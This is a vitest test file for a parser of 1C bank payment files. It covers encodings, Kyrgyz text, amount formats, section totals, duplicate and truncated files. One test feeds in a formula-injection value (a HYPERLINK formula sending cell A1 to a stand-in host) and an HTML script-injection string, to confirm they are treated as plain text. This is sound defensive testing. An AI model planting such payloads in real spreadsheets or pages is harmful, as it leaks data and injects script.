import { readdirSync, readFileSync } from 'node:fs'
import { wordsIn } from '@tartip/domain/bank-text'
import { bishkekDate } from '@tartip/domain/time/instant'
import { expect, test } from 'vitest'
import { oneCStatement } from '../statements/one-c-statement.ts'
import { operationsOf, statementOf } from '../statements/testing/statement-fixture.ts'
import type { PaymentFile } from './payment-file.ts'
import { readPaymentFile } from './read-payment-file.ts'

const caseBytes = (name: string) =>
  new Uint8Array(readFileSync(new URL(`../../cases/1c/${name}`, import.meta.url)))

async function read(name: string): Promise<PaymentFile> {
  const file = await readPaymentFile(caseBytes(name))
  if (!file.ok) throw new Error(file.error.code)
  return file.value
}

const codesOf = (list: PaymentFile['complaints']) => list.map(({ code }) => code)

test.each([
  ['s01_statement_v102_cp1251_crlf.txt', 'windows-1251', 4],
  ['s05_statement_v103_all_keys_cp1251.txt', 'windows-1251', 3],
  ['s11_dos_cp866.txt', 'cp866', 4],
  ['s15_multi_account_day_sections_utf8.txt', 'UTF-8', 2],
  ['s22_kyrgyz_letters_not_in_cp1251_utf8.txt', 'UTF-8', 1],
])('%s is read as %s without a complaint', async (name, encoding, count) => {
  const file = await read(name)
  expect(file).toMatchObject({ kind: 'ONE_C', encoding, complaints: [] })
  expect(file.rows).toHaveLength(count)
  expect(codesOf(file.warnings)).not.toContain('FILE_ENCODING_DECLARED')
})

test.each([
  ['s02_mixed_doc_types_v103_utf8_declared_windows.txt', 'UTF-8'],
  ['s12_utf8_bom_but_declares_windows.txt', 'UTF-8'],
  ['s13_cp1251_bytes_but_declares_utf8.txt', 'windows-1251'],
])('%s declares another encoding and is read as %s', async (name, actual) => {
  const file = await read(name)
  expect(file.encoding).toBe(actual)
  expect(file.complaints).toEqual([])
  expect(file.warnings.find(({ code }) => code === 'FILE_ENCODING_DECLARED')?.params).toMatchObject(
    {
      actual,
    },
  )
  expect(file.rows.every(({ fields }) => !/[\ufffd?]{2}/.test(fields.purpose ?? ''))).toBe(true)
})

test('the code page of DOS gives the same payments as that of Windows', async () => {
  const windows = await read('s01_statement_v102_cp1251_crlf.txt')
  const dos = await read('s11_dos_cp866.txt')
  expect(dos.rows).toEqual(windows.rows)
  expect(windows.rows[0]?.fields.recipientBankName).toBe('ВТБ 24 (ПАО)')
})

test('documents of several accounts and days add up to the turnovers of their sections', async () => {
  const { warnings, rows, totals } = await read('s15_multi_account_day_sections_utf8.txt')
  expect(warnings).toEqual([])
  expect(rows.map(({ amountMinor }) => amountMinor)).toEqual([10_050n, 2_000n])
  expect(totals).toEqual([{ currency: 'KGS', count: 2, amountMinor: 12_050n }])
})

test('a turnover that the documents do not reach is a warning with both sums', async () => {
  const { complaints, warnings } = await read('s16_day_total_mismatch_utf8.txt')
  expect(complaints).toEqual([])
  expect(warnings).toMatchObject([
    {
      code: 'SECTION_SUM_MISMATCH',
      row: 12,
      value: '1090160500000137',
      params: { declared: '999.00', actual: '100.50' },
    },
  ])
})

test('two equal documents of one file are both read and pointed out', async () => {
  const { rows, warnings } = await read('s18a_overlap_two_identical_docs_utf8.txt')
  expect(rows).toHaveLength(2)
  expect(warnings).toMatchObject([
    { code: 'CELL_LIKELY_DUPLICATE', row: 29, params: { other: 12, score: 100 } },
  ])
  const overlapping = await read('s18b_overlap_same_doc_plus_new_utf8.txt')
  expect(overlapping.rows).toHaveLength(2)
  expect(overlapping.warnings).toEqual([])
})

test('amounts in every notation are read, or refused beside their line', async () => {
  const { rows, complaints } = await read('s20_amount_formats_utf8.txt')
  expect(rows.map(({ amountMinor }) => amountMinor)).toEqual([
    1_227_760n,
    971_477n,
    0n,
    undefined,
    31_863_847n,
    100_050n,
    100_050n,
    100n,
    undefined,
    17_500_000n,
    undefined,
  ])
  expect(complaints.map(({ code, value }) => [code, value])).toEqual([
    ['CELL_AMOUNT_TOO_SMALL', '0'],
    ['CELL_EMPTY', ''],
    ['CELL_AMOUNT_NEGATIVE', '-5.00'],
    ['CELL_INVALID_AMOUNT', '1e3'],
  ])
})

test('a purpose in parts is joined; the value is everything behind the first equals sign', async () => {
  const { rows } = await read('s21_purpose_split_1_to_6_no_main_key_utf8.txt')
  expect(rows[0]?.fields.purpose).toBe('за доставку бетона по дог. № 5 = доп. 1')
})

test('Kyrgyz letters come through', async () => {
  const { rows } = await read('s22_kyrgyz_letters_not_in_cp1251_utf8.txt')
  expect(rows[0]?.fields.purpose).toBe('Жүгүртүү үчүн төлөм, Өзгөн ш., каңтар — №12')
})

test('a file that breaks off is refused, because documents are missing', async () => {
  const bytes = caseBytes('s24_docs_without_end_marker_truncated_utf8.txt')
  expect(await readPaymentFile(bytes)).toMatchObject({
    ok: false,
    error: { code: 'FILE_TRUNCATED', params: { expected: 'КонецФайла' } },
  })
})

test('a key that stands twice with different values is a fault of its document', async () => {
  const { complaints } = await read('s26_duplicate_key_in_document_utf8.txt')
  expect(complaints).toMatchObject([{ code: 'CELL_REPEATED_KEY', row: 12, column: 'Сумма' }])
})

test('markup and formulas are texts', async () => {
  const { rows, complaints } = await read('s27_html_and_formula_in_names_utf8.txt')
  expect(complaints).toEqual([])
  expect(rows[0]?.fields).toMatchObject({
    recipientName: '=HYPERLINK("http://example.test/?"&A1;"Счет")',
    purpose: '"><script>1</script>',
  })
})

test('a statement of the bank is imported without a loss, also with Kyrgyz letters and in dollars', async () => {
  const statement = statementOf(operationsOf(8))
  const chunks: Uint8Array[] = []
  for await (const chunk of oneCStatement(statement, '1.03')) chunks.push(chunk)
  const file = await readPaymentFile(new Uint8Array(Buffer.concat(chunks)))
  if (!file.ok) throw new Error(file.error.code)
  const { rows, complaints, warnings, totals, encoding } = file.value
  expect(encoding).toBe('UTF-8')
  // What goes abroad needs Latin letters; nothing else is objected to.
  expect(codesOf(complaints).filter(code => code !== 'CELL_NOT_LATIN')).toEqual([])
  expect(codesOf(warnings).filter(code => code !== 'CELL_LIKELY_DUPLICATE')).toEqual([])
  const { head, sections, operations } = statement
  expect(totals).toEqual(
    sections.map(({ currency, debitMinor, creditMinor }, index) => ({
      currency,
      count: operations[index]?.length,
      amountMinor: debitMinor + creditMinor,
    })),
  )
  expect(rows).toMatchObject(
    sections.flatMap(({ account, currency }, index) =>
      (operations[index] ?? []).map(one => {
        const isDebit = one.direction === 'DEBIT'
        return {
          currency,
          amountMinor: one.amountMinor,
          fields: {
            transferNum: one.documentNumber,
            valueDate: bishkekDate(one.bookedAt),
            payerAccount: isDebit ? account : one.counterpartyAccount,
            recipientAccount: isDebit ? one.counterpartyAccount : account,
            recipientName: isDebit ? one.counterpartyName : head.clientName,
            recipientBic: isDebit ? one.counterpartyBank : head.bankBic,
            purpose: wordsIn(one.purpose, 'ru').replaceAll(/[\r\n]+/g, ' '),
          },
        }
      }),
    ),
  )
})

test('every file of the folder is a case of these tests', () => {
  const tests = readFileSync(new URL(import.meta.url), 'utf8')
  const files = readdirSync(new URL('../../cases/1c', import.meta.url))
  expect(files.filter(name => !tests.includes(name))).toEqual([])
})
